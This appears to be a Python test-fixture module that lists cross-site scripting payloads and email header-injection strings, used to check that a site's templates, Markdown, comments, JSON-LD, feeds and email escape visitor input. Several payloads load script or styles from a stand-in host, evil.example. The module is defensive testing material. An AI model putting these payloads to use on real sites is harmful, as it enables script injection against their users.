"""Hostile text for every field a visitor or a writer controls.

Each payload would run script, load a foreign resource or break out of its
context if it reached a page unescaped. `MARK` lets a test find where the text
landed. The list follows the usual corpora (OWASP's filter-evasion cheat sheet,
PortSwigger's XSS cheat sheet), cut to the shapes that differ for our renderers:
raw HTML (templates), Markdown (article bodies), plain text turned into links
(comments), JSON inside <script> (JSON-LD), XML (feeds, sitemaps) and email.
"""

MARK = "xssmark"
FOREIGN_HOST = "evil.example"

PAYLOADS = [
    # Script tags, plain and disguised.
    f"<script>alert('{MARK}')</script>",
    f"<ScRiPt>alert('{MARK}')</sCrIpT>",
    f"<script src=//evil.example/{MARK}.js></script>",
    f"<<script>alert('{MARK}');//<</script>",
    f"<scr<script>ipt>alert('{MARK}')</scr</script>ipt>",
    # Event handlers on harmless-looking tags.
    f"<img src=x onerror=alert('{MARK}')>",
    f"<IMG SRC=x OnErRoR=alert('{MARK}')>",
    f"<svg onload=alert('{MARK}')>",
    f"<svg/onload=alert('{MARK}')>",
    f"<body onload=alert('{MARK}')>",
    f"<details open ontoggle=alert('{MARK}')>",
    f"<a href=# onmouseover=alert('{MARK}')>{MARK}</a>",
    f"<iframe src=\"javascript:alert('{MARK}')\"></iframe>",
    f"<math><mtext><table><mglyph><style><img src=x onerror=alert('{MARK}')>",
    # javascript: and data: URLs, in HTML and in Markdown.
    f"<a href=\"javascript:alert('{MARK}')\">{MARK}</a>",
    f"<a href=\"JaVaScRiPt:alert('{MARK}')\">{MARK}</a>",
    f'<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">{MARK}</a>',
    f'<a href="java&#x09;script:alert(1)">{MARK}</a>',
    f'<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">{MARK}</a>',
    f"[{MARK} link](javascript:alert('{MARK}'))",
    f"[{MARK} link](JAVASCRIPT:alert(1))",
    f"[{MARK} data](data:text/html,<script>alert(1)</script>)",
    f"![{MARK}](javascript:alert(1))",
    f'[{MARK} ref][x]\n\n[x]: javascript:alert("{MARK}")',
    f"<javascript:alert('{MARK}')>",
    # Entity-encoded and mixed-case variants.
    f"&lt;script&gt;alert('{MARK}')&lt;/script&gt;",
    f"&#60;script&#62;alert('{MARK}')&#60;/script&#62;",
    f"\\u003cscript\\u003ealert('{MARK}')\\u003c/script\\u003e",
    # Attribute breakouts.
    f"\"><script>alert('{MARK}')</script>",
    f"'><img src=x onerror=alert('{MARK}')>",
    f'" onmouseover="alert(\'{MARK}\')" x="',
    f"' autofocus onfocus='alert(\"{MARK}\")' x='",
    f"` onmouseover=alert('{MARK}') `",
    # Breaking out of a JSON-LD (or any) script block, and out of HTML comments and CDATA.
    f"</script><script>alert('{MARK}')</script>",
    f"</SCRIPT><svg onload=alert('{MARK}')>",
    f'{MARK}"}}]}}</script><script>alert(1)</script>',
    f"<!--<script>alert('{MARK}')</script>-->",
    f"]]><script>alert('{MARK}')</script>",
    # Styles and other active content.
    f"<style>@import 'https://evil.example/{MARK}.css';</style>",
    f"<div style=\"background:url(javascript:alert('{MARK}'))\">{MARK}</div>",
    f"<object data=\"javascript:alert('{MARK}')\"></object>",
    f'<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">{MARK}',
    f'<form action="https://evil.example/"><button formaction=javascript:alert(1)>{MARK}</button></form>',
    f'<meta http-equiv="refresh" content="0;url=javascript:alert(\'{MARK}\')">',
    f'<base href="https://evil.example/{MARK}/">',
    f"<template><script>alert('{MARK}')</script></template>",
    f"<noscript><p title=\"</noscript><img src=x onerror=alert('{MARK}')>\">",
]

# Fields that must be one line (names, titles) also get these: header injection in email.
LINE_BREAKERS = [f"Eve {MARK}\r\nBcc: victim@example.org", f"Eve {MARK}\nX-Injected: yes"]
